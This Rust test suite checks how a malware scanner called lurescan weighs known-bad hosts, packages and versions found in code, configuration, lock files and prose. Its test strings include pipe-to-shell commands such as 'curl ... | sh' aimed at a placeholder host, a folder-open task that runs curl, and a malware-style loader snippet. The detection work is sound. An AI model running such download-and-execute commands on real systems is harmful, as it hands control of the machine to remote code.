//! Indicators: what decides, and everything that only talks about them.

use std::fmt::Write as _;

use lurescan::analyse::{CommandLine, Facts, Platform, Start};
use lurescan::artifact::{Kind, Text};
use lurescan::engine::{Engine, EngineOptions};
use lurescan::intel::{Intel, What};
use lurescan::signal::{Basis, Moment};

use crate::subject::{artifact, engine, layer, matched};

const HOST: &str = "indicator.lurescan.invalid";

/// The strongest basis among the indicator signals: `None` if there is none.
fn basis(path: &str, kind: Kind, text: &str) -> Option<Basis> {
    let signals = matched(&engine(), &artifact(path, kind, text.as_bytes()));
    signals.iter().filter(|s| s.rule == "known-indicator").map(|s| s.basis).min()
}

#[test]
fn a_listed_host_in_code_decides_and_its_subdomain_too() {
    for text in [format!("fetch('https://{HOST}/x')"), format!("fetch('https://a.b.{}')", HOST.to_uppercase())] {
        assert_eq!(basis("src/a.js", Kind::JavaScript, &text), Some(Basis::ExactIntelligence), "{text}");
    }
}

#[test]
fn a_longer_name_or_address_is_another_one() {
    for text in [
        format!("'not{HOST}'"),
        format!("'{HOST}.example.test'"),
        "'192.0.2.66:12240'".to_owned(),
        "'1192.0.2.66:1224'".to_owned(),
        "'https://bin.lurescan.invalid/b/5ELF70'".to_owned(),
        "'https://bin.lurescan.invalid/b/5elf7'".to_owned(),
    ] {
        assert_eq!(basis("src/a.js", Kind::JavaScript, &text), None, "{text}");
    }
}

#[test]
fn a_host_at_the_end_of_a_sentence_is_the_host() {
    assert_eq!(basis("src/a.js", Kind::JavaScript, &format!("send('to {HOST}.')")), Some(Basis::ExactIntelligence));
}

#[test]
fn an_indicator_that_people_read_is_context() {
    for (path, kind) in [
        ("README.md", Kind::Prose),
        ("iocs.csv", Kind::Table),
        ("hosts.txt", Kind::Text),
        ("detect.yar", Kind::Text),
        ("detect.sigma", Kind::Yaml),
        ("advisories/x.json", Kind::Json),
        ("rules/dns.yml", Kind::Yaml),
        ("page.html", Kind::Html),
    ] {
        assert_eq!(basis(path, kind, &format!("see {HOST} for it")), Some(Basis::Context), "{path}");
    }
}

#[test]
fn configuration_that_starts_or_steers_something_decides() {
    for (path, kind) in [
        (".env", Kind::Settings),
        ("Dockerfile", Kind::Dockerfile),
        (".vscode/tasks.json", Kind::Json),
        ("config/default.json", Kind::Json),
        (".github/workflows/ci.yml", Kind::Yaml),
        ("docker-compose.yml", Kind::Yaml),
    ] {
        assert_eq!(basis(path, kind, &format!("x: {HOST}")), Some(Basis::ExactIntelligence), "{path}");
    }
}

#[test]
fn a_layer_decoded_from_code_is_code_and_one_from_prose_is_prose() {
    let engine = engine();
    let strongest = |path| {
        let signals = matched(&engine, &layer(path, Kind::Text, format!("https://{HOST}/").as_bytes()));
        signals.iter().map(|s| s.basis).min()
    };
    assert_eq!(strongest("server/app.js"), Some(Basis::ExactIntelligence));
    assert_eq!(strongest("docs/report.md"), Some(Basis::Context));
}

#[test]
fn a_comment_line_only_talks_and_code_behind_a_licence_comment_does_not() {
    assert_eq!(basis("a.js", Kind::JavaScript, &format!("// seen: {HOST}\n")), Some(Basis::Context));
    assert_eq!(basis("a.py", Kind::Python, &format!("# seen: {HOST}\n")), Some(Basis::Context));
    let minified = format!("/*! MIT */fetch('https://{HOST}')");
    assert_eq!(basis("a.js", Kind::JavaScript, &minified), Some(Basis::ExactIntelligence));
    let continued = format!("curl \\\n  --url https://{HOST} | sh");
    assert_eq!(basis("a.sh", Kind::Shell, &continued), Some(Basis::ExactIntelligence));
}

#[test]
fn a_literal_in_a_test_file_is_what_is_tested() {
    let text = format!("expect(list).toContain('{HOST}')");
    assert_eq!(basis("src/list.test.ts", Kind::TypeScript, &text), Some(Basis::Context));
    assert_eq!(basis("tests/it.rs", Kind::OtherSource, &text), Some(Basis::Context));
}

#[test]
fn a_file_with_many_deciding_indicators_is_a_list() {
    let intel = Intel::load();
    let hosts = intel.rows().iter().filter(|row| row.decides && row.what == What::Domain).take(8);
    let mut text = String::from("const blocked = [\n");
    for row in hosts {
        let _ = writeln!(text, "  '{}',", row.value);
    }
    let signals = matched(&engine(), &artifact("src/blocklist.js", Kind::JavaScript, text.as_bytes()));
    let mine: Vec<_> = signals.iter().filter(|s| s.rule == "known-indicator").collect();
    assert_eq!(mine.len(), 1);
    assert_eq!(mine[0].basis, Basis::Context);
    assert!(mine[0].message.contains("list"), "{}", mine[0].message);
}

#[test]
fn a_constant_that_is_used_decides_and_one_in_a_list_is_searched_for() {
    let used = "const key = 'LurescanSelfTest@)@^Constant';";
    assert_eq!(basis("src/a.js", Kind::JavaScript, used), Some(Basis::ExactIntelligence));
    let listed = "module.exports = [\n  'LurescanSelfTest@)@^Constant',\n  'other',\n];";
    assert_eq!(basis("src/a.js", Kind::JavaScript, listed), Some(Basis::Context));
}

#[test]
fn what_is_searched_for_or_shown_is_not_used() {
    for (path, kind, text) in [
        ("scan.sh", Kind::Shell, format!("  fast_grep_files_fixed \"{HOST}\" < list | while read f; do")),
        ("scan.sh", Kind::Shell, format!("echo \"$file: known host ({HOST})\" >> found.txt")),
        ("scan.js", Kind::JavaScript, format!("if (text.includes('{HOST}')) hits += 1;")),
        ("scan.py", Kind::Python, format!("print(\"seen: {HOST}\")")),
    ] {
        assert_eq!(basis(path, kind, &text), Some(Basis::Context), "{text}");
    }
    for text in [format!("echo https://{HOST} | xargs curl -s | sh"), format!("curl https://{HOST} | grep x")] {
        assert_eq!(basis("a.sh", Kind::Shell, &text), Some(Basis::ExactIntelligence), "{text}");
    }
}

#[test]
fn a_dependency_of_a_fixture_is_context_and_of_the_target_itself_decides() {
    let manifest = r#"{"dependencies":{"lurescan-self-test-package":"1"}}"#;
    assert_eq!(basis("test-cases/attack/package.json", Kind::Json, manifest), Some(Basis::Context));
    assert_eq!(basis("packages/app/package.json", Kind::Json, manifest), Some(Basis::ExactIntelligence));
}

#[test]
fn a_row_that_does_not_decide_is_context_even_in_code() {
    assert_eq!(basis("a.js", Kind::JavaScript, "fetch('https://context.lurescan.invalid')"), Some(Basis::Context));
}

#[test]
fn a_bad_package_counts_as_a_dependency_and_never_as_a_name() {
    let name = "lurescan-self-test-package";
    let dependency = format!(r#"{{"name":"x","devDependencies":{{"left":"1","{name}":"^1.0.0"}}}}"#);
    assert_eq!(basis("package.json", Kind::Json, &dependency), Some(Basis::ExactIntelligence));
    let alias = format!(r#"{{"dependencies":{{"chalk":"npm:{name}@1.0.0"}}}}"#);
    assert_eq!(basis("package.json", Kind::Json, &alias), Some(Basis::ExactIntelligence));
    let own = format!(r#"{{"name":"{name}","dependencies":{{"{name}-two":"1"}},"keywords":["{name}"]}}"#);
    assert_eq!(basis("package.json", Kind::Json, &own), None);
    assert_eq!(basis("data.json", Kind::Json, &dependency), None);
}

#[test]
fn lock_files_and_requirements_of_every_manager_are_read() {
    let name = "lurescan-self-test-package";
    let cases = [
        ("package-lock.json", format!(r#"{{"packages":{{"node_modules/{name}":{{"version":"1.0.0"}}}}}}"#)),
        ("yarn.lock", format!("{name}@^1.0.0:\n  version \"1.0.0\"\n")),
        ("yarn.lock", format!("\"{name}@npm:^1.0.0\":\n  version: 1.0.0\n")),
        ("pnpm-lock.yaml", format!("packages:\n\n  {name}@1.0.0:\n    resolution: {{}}\n")),
        ("pnpm-lock.yaml", format!("packages:\n\n  /{name}/1.0.0:\n    resolution: {{}}\n")),
        ("bun.lock", format!("{{\"packages\": {{\"{name}\": [\"{name}@1.0.0\", \"\", {{}}],}},}}")),
        ("requirements.txt", format!("requests==2.0\n{name}[extra]>=1.0 ; python_version > '3'\n")),
        ("requirements-dev.txt", "LureScan_Self.Test-Package\n".to_owned()),
        ("pyproject.toml", format!("[project]\ndependencies = [\n  \"{name}>=1\",\n]\n")),
        ("pyproject.toml", format!("[tool.poetry.dependencies]\npython = \"^3\"\n{name} = \"^1\"\n")),
        ("poetry.lock", format!("[[package]]\nname = \"{name}\"\nversion = \"1.0.0\"\n")),
        ("Pipfile.lock", format!(r#"{{"default":{{"{name}":{{"hashes":[],"version":"==1.0.0"}}}}}}"#)),
        ("setup.py", format!("setup(install_requires=['requests', '{name}>=1'])")),
        ("Cargo.toml", format!("[dependencies]\nserde = \"1\"\n{name} = \"1\"\n")),
        ("Cargo.toml", format!("[build-dependencies.{name}]\nversion = \"1\"\n")),
        ("Cargo.lock", format!("[[package]]\nname = \"{name}\"\nversion = \"1.0.0\"\n")),
    ];
    for (path, text) in cases {
        assert_eq!(basis(path, Kind::Text, &text), Some(Basis::ExactIntelligence), "{path}: {text}");
    }
}

#[test]
fn a_bad_version_is_that_version_and_no_other() {
    let lock = |version: &str| format!("lurescan-self-test-release@^6.0.0:\n  version \"{version}\"\n");
    assert_eq!(basis("yarn.lock", Kind::Text, &lock("6.6.6")), Some(Basis::ExactIntelligence));
    assert_eq!(basis("yarn.lock", Kind::Text, &lock("6.6.7")), None);
    let manifest = |range: &str| format!(r#"{{"dependencies":{{"lurescan-self-test-release":"{range}"}}}}"#);
    assert_eq!(basis("package.json", Kind::Json, &manifest("6.6.6")), Some(Basis::ExactIntelligence));
    assert_eq!(basis("package.json", Kind::Json, &manifest("^6.6.0")), None);
}

#[test]
fn a_listed_host_in_a_command_runs_when_the_command_does() {
    let bytes = format!("{{\"command\": \"curl https://{HOST}\", \"other\": 1}}");
    let artifact = artifact(".vscode/tasks.json", Kind::Json, bytes.as_bytes());
    let text = Text::new(bytes.as_bytes());
    let place = text.place(12..54);
    let command = CommandLine { text: String::new(), place, platform: Platform::Any, actions: Vec::new() };
    let start = Start { command: Some(0), ..Start::at(&lurescan::mechanism::editors::FOLDER_OPEN, text.place(0..0)) };
    let facts = Facts { starts: vec![start], commands: vec![command], ..Facts::default() };
    let engine = engine();
    let mut signals = Vec::new();
    engine.match_artifact(&mut engine.analyst(), &artifact, &text, &facts, &mut signals, &mut |_, _| {});
    assert_eq!(signals.first().map(|s| s.moment), Some(Some(Moment::Open)), "{signals:?}");
}

#[test]
fn without_intelligence_neither_indicators_nor_family_rules_speak() {
    let engine = Engine::load(&EngineOptions { no_intel: true, ..EngineOptions::default() }).expect("loads");
    let code = format!("global['!']='1';global['r']=require;fetch('https://{HOST}')");
    assert!(matched(&engine, &artifact("a.js", Kind::JavaScript, code.as_bytes())).is_empty());
    assert!(engine.family("PolinRider").is_none());
    assert!(engine.packs().iter().all(|pack| pack.name != "intel"));
}

#[test]
fn the_pack_tells_its_age_and_a_family_its_source() {
    let engine = engine();
    let pack = engine.packs().iter().find(|pack| pack.name == "intel").expect("the pack is there");
    assert!(pack.entries > 2_000, "{}", pack.entries);
    assert!(pack.date.as_deref().is_some_and(|date| date >= "2026-09-01"), "{:?}", pack.date);
    let family = engine.family("PolinRider").expect("a family of a rule page");
    assert_eq!(family.date, "2026-03-07");
    assert!(engine.family("lurescan self-test").is_some(), "a family of the table");
}

#[test]
fn the_projects_own_table_rules_and_pages_decide_nothing() {
    let engine = engine();
    let mut files = vec![("intel/indicators.tsv".to_owned(), Kind::Table)];
    for entry in std::fs::read_dir("rules").expect("rules/ is there") {
        let path = entry.expect("readable").path();
        let kind = if path.extension().is_some_and(|e| e == "md") { Kind::Prose } else { Kind::Text };
        files.push((path.display().to_string(), kind));
    }
    for (path, kind) in files {
        let bytes = std::fs::read(&path).expect("readable");
        let signals = matched(&engine, &artifact(&path, kind, &bytes));
        assert!(signals.iter().all(|s| s.basis == Basis::Context), "{path}: {signals:?}");
    }
}
